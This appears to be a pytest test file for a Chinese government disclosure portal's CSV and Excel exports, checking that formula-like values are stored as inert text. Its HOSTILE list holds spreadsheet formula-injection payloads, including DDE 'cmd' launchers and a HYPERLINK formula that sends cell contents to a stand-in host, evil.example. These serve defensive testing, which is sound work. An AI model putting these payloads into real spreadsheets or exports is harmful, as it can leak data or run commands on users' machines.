"""Every CSV and Excel file the portal writes keeps a formula-like value as text (formula injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from gongkai.model.data_lists import CatalogEntry, FeeItem
from gongkai.pages.cells import inert_csv_cell
from gongkai.pages.datalists import catalog_csv, catalog_xlsx, fees_csv, fees_xlsx
from tests.conftest import run_gongkai
from tests.test_report_expiring import doc

HOSTILE = [
    '=HYPERLINK("https://evil.example/?q="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x01=1+1",
]


@pytest.mark.parametrize("text, cell", [
    *[(text, "'" + text) for text in HOSTILE],
    ("-3", "-3"),
    ("+86.5", "+86.5"),
    ("住宅类每件80元", "住宅类每件80元"),
    ("按件收取=80元", "按件收取=80元"),
    ("", ""),
])
def test_a_csv_cell_that_could_start_a_formula_gets_an_apostrophe(text, cell):
    assert inert_csv_cell(text) == cell


def fee(value: str) -> FeeItem:
    return FeeItem(collector=value, name=value, category="行政事业性收费", standard=value, basis=value,
                   fund_management=value, note=value)


def entry(value: str) -> CatalogEntry:
    return CatalogEntry(body=value, item=value, content=value, basis=value, time_limit=value,
                        channels=(value, "网站"), audience=value, category="决策公开")


def csv_rows(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))[1:]


def test_the_fee_and_catalog_csv_keep_formulas_as_text():
    fees = csv_rows(fees_csv([fee(text) for text in HOSTILE]))
    assert [row[1] for row in fees] == ["'" + text for text in HOSTILE]
    assert all(cell.startswith("'") for row in fees for index, cell in enumerate(row) if index != 2)
    catalog = csv_rows(catalog_csv([entry(text) for text in HOSTILE]))
    assert [row[0] for row in catalog] == ["'" + text for text in HOSTILE]
    assert [row[5] for row in catalog] == ["'" + text + "、网站" for text in HOSTILE]


@pytest.mark.parametrize("workbook", [
    lambda: fees_xlsx([fee(text) for text in HOSTILE], dt.date(2026, 11, 1)),
    lambda: catalog_xlsx([entry(text) for text in HOSTILE], dt.date(2026, 11, 1)),
])
def test_the_workbooks_store_formulas_as_quoted_text(workbook):
    sheet = load_workbook(io.BytesIO(workbook())).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # A workbook cannot hold control characters: they are left out, the formula stays text.
    assert [c.value for c in cells] == HOSTILE[:-1] + ["=1+1"]
    assert [(c.data_type, c.quotePrefix) for c in cells] == [("s", True)] * len(HOSTILE)
    plain = sheet.cell(1, 1)
    assert (plain.data_type, plain.quotePrefix) == ("s", False)


def test_the_expiring_report_csv_keeps_a_formula_title_as_text(make_site, tmp_path):
    title = "'=HYPERLINK(\"https://evil.example/\",\"打开\")'"
    site = make_site({"content/policies/2023/soon.md": doc(title, "通财规〔2023〕1号", "2027-03-31")})
    target = tmp_path / "expiring.csv"
    code, _, _ = run_gongkai(site, "report", "expiring", "--within", "400", "--csv", str(target))
    assert code == 0
    assert csv_rows(target.read_bytes()) == [[
        "2027-03-31", "122", "通财规〔2023〕1号", "'=HYPERLINK(\"https://evil.example/\",\"打开\")",
        "通辽市财政局", "有效", "policies/2023/soon",
    ]]
